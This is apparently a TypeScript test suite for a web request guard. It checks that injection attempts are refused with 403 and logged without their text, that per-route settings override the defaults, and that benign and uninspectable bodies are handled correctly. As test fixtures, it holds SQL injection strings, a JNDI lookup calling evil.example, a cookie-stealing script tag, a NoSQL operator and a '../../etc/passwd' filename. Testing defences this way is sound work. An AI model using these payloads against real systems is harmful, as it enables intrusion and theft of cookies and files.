// CT3 through the front door: what is refused, where, and what passes as it came.
import assert from 'node:assert/strict'
import { after, before, suite, test } from 'node:test'
import { assertRefused, type Guarded, json, multipart, route, sent, startGuarded } from './guarded.ts'

const sql = "1' OR '1'='1' -- "
const lookup = ['$', '{jndi:ldap://evil.example/a}'].join('')
const script = '<script>steal(document.cookie)</script>'

suite('CT3: injection, in mode block', () => {
  let house: Guarded
  const closing: (() => unknown)[] = []

  before(async () => {
    const context = { after: (close: () => unknown) => void closing.push(close) } as never
    house = await startGuarded(context, {
      inspection: { injection: 'block' },
      routes: [route('/items/:id'), route('/items')],
    })
  })
  after(async () => {
    for (const close of closing.reverse()) await close()
  })

  const query = encodeURIComponent(sql)
  const attacks: readonly (readonly [where: string, path: string, init: RequestInit, place: string, at: string])[] = [
    ['a query', `/items?q=${query}`, {}, 'query', 'q'],
    ['a query, encoded twice', `/items?q=${encodeURIComponent(query)}`, {}, 'query', 'q'],
    ['a parameter of the path', `/items/${query}`, {}, 'path', 'id'],
    ['a header', '/items', { headers: { 'x-tracking': sql } }, 'header', 'x-tracking'],
    ['a user agent', '/items', { headers: { 'user-agent': lookup } }, 'header', 'user-agent'],
    ['a cookie', '/items', { headers: { cookie: `tracking=${query}` } }, 'cookie', 'tracking'],
    ['a member of JSON', '/items', json({ filter: { name: sql } }), 'body', '/filter/name'],
    ['a name of JSON', '/items', json({ user: { $ne: null } }), 'body', '/user/$ne'],
    ['JSON in a string of JSON', '/items', json({ payload: JSON.stringify({ name: sql }) }), 'body', '/payload#/name'],
    ['a form', '/items', { method: 'POST', body: new URLSearchParams({ name: sql }) }, 'body', 'name'],
    ['a part of a form', '/items', multipart([{ name: 'name', body: sql }]), 'body', 'name'],
    [
      'the name of a file',
      '/items',
      multipart([{ name: 'file', filename: '../../etc/passwd', body: 'x' }]),
      'body',
      'file#filename',
    ],
    ['XML', '/items', sent(`<order><name>${sql}</name></order>`, 'application/xml'), 'body', '/order/name'],
    ['text', '/items', sent(script, 'text/plain'), 'body', ''],
    ['a body without a type', '/items', sent(script), 'body', ''],
    ['JSON that calls itself text', '/items', sent(JSON.stringify({ name: sql }), 'text/plain'), 'body', '#/name'],
    ['text that calls itself bytes', '/items', sent(script, 'application/octet-stream'), 'body', ''],
    [
      'a body of DELETE',
      '/items',
      { method: 'DELETE', ...{ body: JSON.stringify({ name: sql }), headers: { 'content-type': 'application/json' } } },
      'body',
      '/name',
    ],
  ]
  for (const [where, path, init, place, at] of attacks)
    test(`an attack in ${where} is 403, with its place and family, and never with the text`, async () => {
      const outcome = await house.ask(path, init)
      assertRefused(outcome, 403, 'injection-detected')
      const told = outcome.problem.findings ?? []
      assert.ok(
        told.some((finding) => finding.in === place && finding.at === at),
        JSON.stringify(told),
      )
      for (const finding of told) assert.deepEqual(Object.keys(finding), ['in', 'at', 'what'])
      assert.ok(!/OR '1'|steal|jndi|passwd/.test(outcome.text), outcome.text)
    })

  test('the record holds what was found and how sure it is, and the log of nobody holds the text', async () => {
    const { id } = await house.ask('/items', json({ name: sql }))
    const { details, result, type } = await house.eventOf(id)
    assert.equal(result, 'denied')
    assert.equal(type, 'authorization_failure')
    assert.equal(details['because'], 'injection-detected')
    assert.match(String(details['findings']), /^sql \d+ % at body \/name \(sql\/[\w-]+/)
    assert.ok(Number(details['score']) >= 0.5)
    assert.ok(!JSON.stringify(details).includes("OR '1'"))
  })

  const markdown =
    '# How to\n\nUse `SELECT * FROM users WHERE id = 1;` and then:\n\n```js\nif (a < b && c > d) alert(1)\n```\n'
  const honest: readonly (readonly [what: string, init: RequestInit])[] = [
    [
      "O'Brien, in JSON with spaces of its own",
      json('{ "name" : "O\'Brien",\n "n": 1.0, "big": 12345678901234567890 }'),
    ],
    ["O'Brien, in a form", sent('name=O%27Brien&city=K%C3%B6ln+am+Rhein&empty=', 'application/x-www-form-urlencoded')],
    ['prose about SQL', json({ description: 'Please select a plan from the list or update it, and drop us a line.' })],
    ['Markdown with code', json({ content: markdown })],
    ['Markdown, as text', sent(markdown, 'text/markdown; charset=utf-8')],
    [
      'a form with a file',
      multipart([
        { name: 'note', body: 'Tom & Jerry; 3 < 4' },
        {
          name: 'file',
          filename: 'a b.bin',
          head: 'Content-Type: application/octet-stream\r\n',
          body: Buffer.from([0, 1, 2, 255, 13, 10]),
        },
      ]),
    ],
    ['bytes that are no text', sent(Buffer.from([0, 159, 146, 150, 1, 2, 3]), 'application/octet-stream')],
    ['an empty body', sent('', 'application/json')],
  ]
  for (const [what, init] of honest)
    test(`${what} passes byte for byte`, async () => {
      const { status, seen, text } = await house.ask('/items?sort=name&filter=a%20b', init)
      assert.equal(status, 200, text)
      assert.deepEqual(seen?.body, init.body)
      assert.equal(seen?.url, '/items?sort=name&filter=a%20b')
      const type = (init.headers as Record<string, string>)['content-type']
      assert.equal(seen?.headers['content-type'], type)
    })
})

test('CT3: a route says otherwise than the house, by mode, threshold, family and what is allowed', async (context) => {
  const block = { mode: 'block' } as const
  const house = await startGuarded(context, {
    inspection: { injection: 'block' },
    routes: [
      route('/off', { inspection: { injection: 'off' } }),
      route('/log', { inspection: { injection: 'log' } }),
      route('/sure', { inspection: { injection: { threshold: 1 } } }),
      route('/no-sql', { inspection: { injection: { families: { sql: 'off' } } } }),
      route('/only-sql', { inspection: { injection: { mode: 'log', families: { sql: 'block' } } } }),
      route('/field', { inspection: { injection: { ...block, allow: [{ field: 'body /query' }] } } }),
      route('/rule', { inspection: { injection: { ...block, allow: [{ rule: 'sql/*' }] } } }),
      route('/both', { inspection: { injection: { ...block, allow: [{ field: 'query q', rule: 'xss/*' }] } } }),
      route('/star', { inspection: { injection: { ...block, allow: [{ field: 'body /rows/*/text' }] } } }),
      route('/house'),
    ],
  })
  const query = `?q=${encodeURIComponent(sql)}`
  const cases: readonly (readonly [path: string, init: RequestInit, status: number])[] = [
    [`/house${query}`, {}, 403],
    [`/off${query}`, {}, 200],
    [`/log${query}`, {}, 200],
    [`/sure?q=${encodeURIComponent("x' or sleep")}`, {}, 200],
    [`/no-sql${query}`, {}, 200],
    [`/no-sql?q=${encodeURIComponent(script)}`, {}, 403],
    [`/only-sql${query}`, {}, 403],
    [`/only-sql?q=${encodeURIComponent(script)}`, {}, 200],
    ['/field', json({ query: sql }), 200],
    ['/field', json({ other: sql }), 403],
    ['/rule', json({ anything: sql }), 200],
    ['/rule', json({ anything: script }), 403],
    [`/both?q=${encodeURIComponent(script)}`, {}, 200],
    [`/both${query}`, {}, 403],
    [`/both?r=${encodeURIComponent(script)}`, {}, 403],
    ['/star', json({ rows: [{ text: sql }, { text: script }] }), 200],
    ['/star', json({ rows: [{ text: 'a', other: sql }] }), 403],
  ]
  for (const [path, init, status] of cases) {
    const outcome = await house.ask(path, init)
    assert.equal(outcome.status, status, `${path} ${outcome.text}`)
  }
  const off = await house.ask(`/off${query}`)
  assert.equal((await house.eventOf(off.id)).details['findings'], undefined, 'off: nothing is looked for')
  const log = await house.ask(`/log${query}`)
  assert.match(String((await house.eventOf(log.id)).details['findings']), /^sql /)
})

test('CT3: a request that cannot be read in one way is refused where something is blocked, and never where nothing is', async (context) => {
  const house = await startGuarded(context, {
    routes: [
      route('/block', { inspection: { injection: 'block', bodyMax: '2kb' } }),
      route('/log', { inspection: { injection: 'log', bodyMax: '2kb' } }),
    ],
  })
  const form = 'application/x-www-form-urlencoded'
  const nested = [...Array(12)].reduce((text: string) => encodeURIComponent(text), "' or 1=1")
  const cases: readonly (readonly [why: string, init: RequestInit, status: number, code: string])[] = [
    ['a member twice', sent('{"a":"x","a":"y"}', 'application/json'), 422, 'not-inspectable'],
    ['broken JSON', sent('{"a":', 'application/json'), 422, 'not-inspectable'],
    ['JSON too deep', sent(`${'['.repeat(80)}${']'.repeat(80)}`, 'application/json'), 422, 'not-inspectable'],
    ['a charset that is none', sent('a=b', `${form}; charset=ibm037`), 422, 'not-inspectable'],
    [
      'bytes that are no UTF-8',
      sent(Buffer.from([0x7b, 0x22, 0xff, 0x22, 0x7d]), 'application/json'),
      422,
      'not-inspectable',
    ],
    ['a form in no UTF-8', sent('a=%ff', form), 422, 'not-inspectable'],
    ['a broken multipart', sent('--x\r\n\r\nhello', 'multipart/form-data; boundary=x'), 422, 'not-inspectable'],
    ['a boundary twice', sent('--x--', 'multipart/form-data; boundary=x; boundary=y'), 422, 'not-inspectable'],
    ['a type that is none', sent('a', 'nonsense'), 422, 'not-inspectable'],
    [
      'a body that is compressed',
      { ...sent('x', 'application/json'), headers: { 'content-encoding': 'gzip' } },
      422,
      'not-inspectable',
    ],
    [
      'an image that is compressed',
      { ...sent('x'), headers: { 'content-encoding': 'gzip', 'content-type': 'image/png' } },
      422,
      'not-inspectable',
    ],
    ['a body that is too large', sent('a'.repeat(3000), 'text/plain'), 413, 'content-too-large'],
    ['encodings that are too deep', json({ a: nested }), 403, 'injection-detected'],
  ]
  for (const [why, init, status, code] of cases)
    await context.test(why, async () => {
      assertRefused(await house.ask('/block', init), status, code)
      const through = await house.ask('/log', init)
      assert.equal(through.status, 200, `${why}: ${through.text}`)
      assert.deepEqual(through.seen?.body, init.body)
    })
})
